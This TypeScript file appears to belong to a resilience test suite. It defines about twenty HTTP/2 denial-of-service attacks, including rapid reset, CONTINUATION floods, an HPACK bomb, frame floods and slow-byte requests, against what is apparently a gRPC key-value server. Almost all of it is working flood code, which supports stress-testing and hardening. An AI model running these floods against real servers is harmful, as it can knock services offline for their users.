/** HTTP/2 frames that cost their sender little. */
import { encodeRangeRequest } from '../../../src/gen/rpc.ts';
import { F, T, block, data, field, frame, headers, message, settings, uint32 } from '../../support/h2-frames.ts';
import type { Attack } from '../attack.ts';
import { flood } from '../flood.ts';
import { GREETING, RANGE, batch, call, reset, streamId } from '../grpc-wire.ts';

const ONE_KEY = encodeRangeRequest({ key: Buffer.from('good') });
const ALL_KEYS = encodeRangeRequest({ key: Buffer.of(0), rangeEnd: Buffer.of(0) });

/** Frames that say nothing, from a few connections. */
function frameFlood(name: string, what: string, bytes: Uint8Array, perWrite = 1000): Attack {
  const many = Buffer.concat(Array.from({ length: perWrite }, () => bytes));
  return {
    name,
    what,
    run: (run) => flood(run, { connections: 8, greeting: GREETING, next: () => many, reads: true }),
  };
}

export const HTTP2_ATTACKS: readonly Attack[] = [
  {
    name: 'rapid-reset',
    what: 'opens streams and resets them at once',
    run: (run) =>
      flood(run, {
        connections: 8,
        greeting: GREETING,
        reads: true,
        next: (step) => batch(step, 200, (n) => Buffer.concat([call(n, RANGE, ONE_KEY), reset(n)])),
      }),
  },
  {
    name: 'made-you-reset',
    what: 'opens streams and has the server reset them: WINDOW_UPDATE by 0',
    largeKeys: 8,
    run: (run) =>
      flood(run, {
        connections: 8,
        greeting: GREETING,
        reads: true,
        next: (step) =>
          batch(step, 200, (n) =>
            Buffer.concat([call(n, RANGE, ALL_KEYS), frame(T.WindowUpdate, 0, streamId(n), uint32(0))]),
          ),
      }),
  },
  {
    name: 'continuation-flood',
    what: 'a header block that never ends, in CONTINUATION frames',
    run: (run) =>
      flood(run, {
        connections: 8,
        greeting: GREETING,
        next: (step) =>
          step === 0 ? headers(1, block(RANGE), 0) : frame(T.Continuation, 0, 1, field('x-more', 'x'.repeat(16_000))),
      }),
  },
  {
    name: 'continuation-empty',
    what: 'a header block that never ends, in CONTINUATION frames without content',
    run: (run) => {
      const empty = Buffer.concat(Array.from({ length: 1000 }, () => frame(T.Continuation, 0, 1)));
      return flood(run, {
        connections: 8,
        greeting: GREETING,
        next: (step) => (step === 0 ? headers(1, block(RANGE), 0) : empty),
      });
    },
  },
  frameFlood('ping-flood', 'PING frames', frame(T.Ping, 0, 0, Buffer.alloc(8))),
  frameFlood('settings-flood', 'SETTINGS frames', settings([4, 65_535])),
  frameFlood('priority-flood', 'PRIORITY frames', frame(T.Priority, 0, 1, [0, 0, 0, 3, 16])),
  frameFlood('unknown-flood', 'frames of a type that does not exist', frame(0xfa, 0, 0, Buffer.alloc(100))),
  {
    name: 'window-update-flood',
    what: 'WINDOW_UPDATE by 1, for the connection and for a stream',
    run: (run) => {
      const updates = [0, 1].map((id) => frame(T.WindowUpdate, 0, id, uint32(1)));
      const many = Buffer.concat(Array.from({ length: 1000 }, () => updates).flat());
      return flood(run, {
        connections: 8,
        greeting: GREETING,
        reads: true,
        next: (step) => (step === 0 ? headers(1, block(RANGE)) : many),
      });
    },
  },
  {
    name: 'empty-data-flood',
    what: 'DATA frames without content on an open stream',
    run: (run) => {
      const many = Buffer.concat(Array.from({ length: 1000 }, () => data(1, Buffer.alloc(0), 0)));
      return flood(run, {
        connections: 8,
        greeting: GREETING,
        next: (step) => (step === 0 ? headers(1, block(RANGE)) : many),
      });
    },
  },
  {
    name: 'ping-unread',
    what: 'PING frames of a client that reads no answer',
    run: (run) => {
      const many = Buffer.concat(Array.from({ length: 1000 }, () => frame(T.Ping, 0, 0, Buffer.alloc(8))));
      return flood(run, { connections: 8, greeting: GREETING, next: () => many });
    },
  },
  {
    name: 'calls-unread',
    what: 'calls to a method that does not exist, answers not read',
    run: (run) =>
      flood(run, {
        connections: 8,
        greeting: GREETING,
        next: (step) => batch(step, 200, (n) => call(n, `/no.Such/Method${'x'.repeat(500)}`, ONE_KEY)),
      }),
  },
  {
    name: 'huge-headers',
    what: 'calls that stay open, each with 60 kB of headers',
    run: (run) => {
      const big = Buffer.concat([block(RANGE), field('x-large', 'x'.repeat(15_000))]);
      const more = Buffer.concat([1, 2, 3].map((i) => field(`x-large-${i}`, 'x'.repeat(14_900))));
      return flood(run, {
        connections: 4,
        greeting: GREETING,
        next: (step) =>
          Buffer.concat([
            headers(streamId(step), big, 0),
            frame(T.Continuation, 0, streamId(step), more.subarray(0, 16_384)),
            frame(T.Continuation, 0, streamId(step), more.subarray(16_384, 32_768)),
            frame(T.Continuation, F.EndHeaders, streamId(step), more.subarray(32_768)),
          ]),
      });
    },
  },
  {
    name: 'hpack-bomb',
    what: 'calls that stay open; header blocks refer thousands of times to one large entry of the table',
    run: (run) => {
      // An entry of 4,000 bytes, then references to it: 16 bytes short of 64 kB in each block.
      const insert = Buffer.concat([Buffer.from([0x40]), field('x-bomb', 'x'.repeat(4000)).subarray(1)]);
      const first = Buffer.concat([block(RANGE), insert, Buffer.alloc(14, 0xbe)]);
      const over = Buffer.concat([block(RANGE), Buffer.alloc(15_000, 0xbe)]);
      return flood(run, {
        connections: 8,
        greeting: GREETING,
        reads: true,
        next: (step) => (step === 0 ? headers(1, first) : batch(step, 4, (n) => headers(streamId(n), over))),
      });
    },
  },
  {
    name: 'hpack-many-fields',
    what: 'calls that stay open, each with 1,500 header fields in as many bytes',
    run: (run) => {
      const fields = Buffer.concat([block(RANGE), Buffer.alloc(1500, 0x80 | 16)]);
      return flood(run, {
        connections: 4,
        greeting: GREETING,
        reads: true,
        next: (step) => batch(step, 20, (n) => headers(streamId(n), fields)),
      });
    },
  },
  {
    name: 'open-streams',
    what: 'as many streams as go, without any message',
    run: (run) => {
      const small = block(RANGE);
      return flood(run, {
        connections: 4,
        greeting: GREETING,
        reads: true,
        next: (step) => batch(step, 500, (n) => headers(streamId(n), small)),
      });
    },
  },
  {
    name: 'garbage',
    what: 'random bytes after the preface, and instead of it',
    run: (run) => {
      const noise = Buffer.alloc(4096);
      let state = 1;
      for (let i = 0; i < noise.length; i++) {
        state = (state * 48_271) % 0x7fff_ffff;
        noise[i] = state;
      }
      return flood(run, {
        connections: 8,
        next: (step) => (step === 0 && run.tally.counts['connections']! % 2 === 0 ? GREETING : noise),
      });
    },
  },
  {
    name: 'frames-by-byte',
    what: 'requests whose bytes come one by one',
    run: (run) => {
      const bytes = Buffer.concat([GREETING, ...Array.from({ length: 50 }, (_, n) => call(n, RANGE, ONE_KEY))]);
      return flood(run, {
        connections: 50,
        reads: true,
        next: (step) => (step < bytes.length ? bytes.subarray(step, step + 1) : data(9999, message('x'))),
      });
    },
  },
];
